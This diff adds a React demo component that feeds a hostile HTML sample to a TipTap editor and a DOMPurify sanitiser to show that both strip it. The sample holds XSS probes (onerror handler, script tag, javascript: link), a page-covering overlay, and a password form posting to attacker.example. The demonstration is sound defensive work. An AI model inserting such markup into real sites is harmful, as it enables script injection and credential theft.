@@ -1,0 +1,81 @@
+/**
+ * Hostile HTML, loaded two ways. Into the editor: TipTap keeps only what its extensions know, so
+ * the script, the event handler, the `javascript:` link and the form never enter the document.
+ * Straight to the sanitiser, as HTML that reached an API without any editor would: DOMPurify removes
+ * the same things and lists them. Either way nothing runs, and the page's CSP would stop it if it did.
+ */
+import { EditorContent, useEditor } from '@tiptap/react';
+import StarterKit from '@tiptap/starter-kit';
+import { useState } from 'react';
+import { useTranslation } from 'react-i18next';
+import { HtmlPreview, type HtmlPreviewLabels } from '@/components/editors/html-preview';
+import { TextAlign } from '@/components/editors/tiptap-text-align';
+import { Button } from '@/components/ui/button';
+import '@/components/editors/rich-content.css';
+
+const unsafeHtml = `<p>Hello <strong>world</strong>.</p>
+<img src="x" onerror="alert('image')">
+<script>alert('script')</script>
+<p><a href="javascript:alert('link')">A javascript: link</a> and <a href="https://example.com">a web link</a>.</p>
+<p style="position: fixed; inset: 0; color: #dc2626">Red text that tried to cover the page.</p>
+<form action="https://attacker.example"><input name="password" placeholder="Password"></form>`;
+
+export function TiptapEditorSanitized() {
+  const { t } = useTranslation('ui-extensions');
+  const [html, setHtml] = useState('');
+  const [loaded, setLoaded] = useState(false);
+  const editor = useEditor({
+    extensions: [StarterKit.configure({ link: { openOnClick: false } }), TextAlign],
+    content: t('tiptap-editor.demo.sanitizedContent'),
+    immediatelyRender: false,
+    editorProps: {
+      attributes: {
+        role: 'textbox',
+        'aria-multiline': 'true',
+        'aria-label': t('tiptap-editor.demo.sanitizedLabel'),
+        class: 'tessera-rich-content min-h-40 px-4 py-3 text-sm outline-none',
+      },
+    },
+    onCreate: ({ editor }) => setHtml(editor.getHTML()),
+    onUpdate: ({ editor }) => setHtml(editor.getHTML()),
+  });
+  const previewLabels = t('editors.preview', { returnObjects: true }) as HtmlPreviewLabels;
+
+  const load = () => {
+    editor?.commands.setContent(unsafeHtml);
+    setLoaded(true);
+  };
+
+  return (
+    <div className="flex flex-col gap-4">
+      <div className="grid items-start gap-4 xl:grid-cols-2">
+        <div className="flex min-w-0 flex-col gap-3">
+          <div className="flex flex-wrap gap-2">
+            <Button size="sm" color="warning" onClick={load} disabled={!editor}>
+              {t('tiptap-editor.demo.load')}
+            </Button>
+          </div>
+          <pre
+            dir="ltr"
+            tabIndex={0}
+            aria-label={t('tiptap-editor.demo.unsafe')}
+            className="max-h-44 overflow-auto rounded-md border bg-muted/40 p-3 text-start font-mono text-xs whitespace-pre-wrap"
+          >
+            {unsafeHtml}
+          </pre>
+          <div className="min-w-0 overflow-hidden rounded-lg border bg-card has-[.ProseMirror:focus-visible]:ring-3 has-[.ProseMirror:focus-visible]:ring-primary/40">
+            <EditorContent editor={editor} className="min-h-40" />
+          </div>
+        </div>
+        <HtmlPreview html={html} labels={previewLabels} showRemoved />
+      </div>
+      {loaded && (
+        <HtmlPreview
+          html={unsafeHtml}
+          labels={{ ...previewLabels, preview: t('tiptap-editor.demo.direct') }}
+          showRemoved
+        />
+      )}
+    </div>
+  );
+}
